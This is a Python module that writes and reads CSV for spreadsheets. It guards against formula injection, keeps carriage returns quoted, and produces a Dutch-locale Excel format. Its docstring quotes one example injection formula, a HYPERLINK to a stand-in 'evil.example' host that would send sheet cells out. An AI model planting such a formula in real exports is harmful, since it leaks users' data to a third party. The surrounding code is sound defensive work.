"""CSV meant for spreadsheets: a cell a spreadsheet would read as a formula is written as text.

Excel, LibreOffice and Google Sheets take a cell that starts with `=`, `+`, `-` or `@` for a
formula, and some also after a leading tab or carriage return; a name like
`=HYPERLINK("http://evil.example/?"&A1,"klik")` then becomes a link that sends the sheet's
cells to someone else. OWASP's advice (CSV injection) is to put a single quote in front of such a
cell, which makes the spreadsheet show the text instead of running it. Every CSV wijkflow writes
(`--format csv` on every command, the streamed `list` and the audit export) passes each text cell
through `spreadsheet_cell`, the one place this rule lives.

A plain number stays as it is: `-3.5`, `+31`, `-1e-05` are what a spreadsheet reads as a number,
not as a formula, and an indicator's negative value or target must stay a number. "Plain" means
an optional sign, digits with at most one decimal point, an optional exponent, and nothing else
(no spaces, no second sign): `-1+1`, `-3,5` or `+31 6 1234` get the quote.

Every CSV row ends in "\n", and a cell holding a line break is quoted: csv.writer quotes only
the characters of its own line ending, so with "\n" a cell holding a lone carriage return went out
bare and a reader split the row there. `csv_writer` quotes that cell too (the one writer every CSV
uses). The raw form, cell for cell as stored, is the JSON output (`--format json`/`jsonl`), and for the
audit export also `audit query --raw-csv` (byte-exact comparisons, not for a spreadsheet).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any, TextIO

from .errors import InvalidInput

# What a spreadsheet may take for the start of a formula (OWASP: = + - @ tab CR).
FORMULA_START = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def spreadsheet_cell(text: str | None) -> str | None:
    """`text` with a single quote in front when a spreadsheet could read it as a formula; else unchanged.

    None (an empty cell) and plain numbers are returned as they are."""
    if text and text[0] in FORMULA_START and not (text[0] in "+-" and _PLAIN_NUMBER.fullmatch(text)):
        return "'" + text
    return text


class CsvWriter:
    """csv.writer(out, lineterminator="\n") that also quotes a cell holding a carriage return.

    A row with a CR in a text cell is written as csv.writer(lineterminator="\r\n") writes it
    (that quotes the cell) and ends in "\n" like every other row; other rows go the plain way.
    """

    def __init__(self, out: TextIO) -> None:
        self.out = out
        self._plain = csv.writer(out, lineterminator="\n")
        self._buf = io.StringIO()
        self._quoting = csv.writer(self._buf, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        cells = list(row)
        if any(isinstance(c, str) and "\r" in c for c in cells):
            self._quoting.writerow(cells)
            text = self._buf.getvalue()
            self._buf.seek(0)
            self._buf.truncate()
            self.out.write(text[:-2] + "\n")
        else:
            self._plain.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """The rows as CsvWriter writes them."""
    buf = io.StringIO()
    CsvWriter(buf).writerows(rows)
    return buf.getvalue()
# --- `--format csv-excel`: what Excel with a Dutch locale (nl-NL) opens with a double click ---------
#
# Excel takes a .csv's separator and number format from Windows' regional settings: in nl-NL the list
# separator is `;` and the decimal separator `,`, and without a byte order mark it reads the bytes
# as the ANSI code page (accents come out as Ã©). So the Excel flavour is `;`-separated, numbers
# with a decimal comma, UTF-8 with a BOM, CRLF line ends, and dates and times written as nl-NL
# Excel reads them (13-05-2026, 13-05-2026 10:00:00: a date cell, not text). Text cells keep the
# formula guard above.

EXCEL_BOM = "\ufeff"
EXCEL_DELIMITER = ";"
_ISO_DATE = re.compile(r"(\d{4})-(\d{2})-(\d{2})")
_ISO_MOMENT = re.compile(r"(\d{4})-(\d{2})-(\d{2})[T ](\d{2}):(\d{2})(?::(\d{2}))?(?:\.\d+)?(?:Z|[+-]\d{2}:?\d{2})?")


def excel_number(value: float | int) -> str:
    """A number as nl-NL Excel reads it: decimal comma, no thousands separator, no exponent for
    everyday sizes."""
    if isinstance(value, int):
        return str(value)
    text = f"{value:.15g}"
    if "e" in text and 1e-9 <= abs(value) < 1e15:
        text = f"{value:.12f}".rstrip("0").rstrip(".")
    return text.replace(".", ",")


def excel_text(text: str) -> str | None:
    """A text cell for nl-NL Excel: an ISO date or moment as Excel reads a date there (in the time
    given: wijkflow's output is already in local time); anything else formula-guarded."""
    m = _ISO_DATE.fullmatch(text)
    if m:
        return f"{m[3]}-{m[2]}-{m[1]}"
    m = _ISO_MOMENT.fullmatch(text)
    if m:
        return f"{m[3]}-{m[2]}-{m[1]} {m[4]}:{m[5]}:{m[6] or '00'}"
    return spreadsheet_cell(text)


# --- reading what a spreadsheet saved ------------------------------------------------------------


def decode_text(data: bytes, file: str) -> tuple[str, str]:
    """The text of a spreadsheet's CSV and what it was read as: UTF-8 with a BOM, UTF-8, or Windows-1252
    (what Excel writes for "CSV" on a Dutch Windows). Windows-1252 leaves five bytes undefined; a file
    with one of them is neither, and refused."""
    if data.startswith(b"\xef\xbb\xbf"):
        try:
            return data[3:].decode("utf-8"), "UTF-8 with BOM"
        except UnicodeDecodeError as e:
            raise InvalidInput(f"{file} starts as UTF-8 but is not ({e}).") from None
    try:
        return data.decode("utf-8"), "UTF-8"
    except UnicodeDecodeError:
        pass
    try:
        return data.decode("cp1252"), "Windows-1252"
    except UnicodeDecodeError as e:
        raise InvalidInput(f"{file} is neither UTF-8 nor Windows-1252 ({e}).") from None


def sniff_separator(text: str) -> str:
    """`;` or `,`: whichever separates more cells on the header line (outside quotes)."""
    header = text.split("\n", 1)[0]
    outside = re.sub(r'"[^"]*"', "", header)
    return ";" if outside.count(";") > outside.count(",") else ","
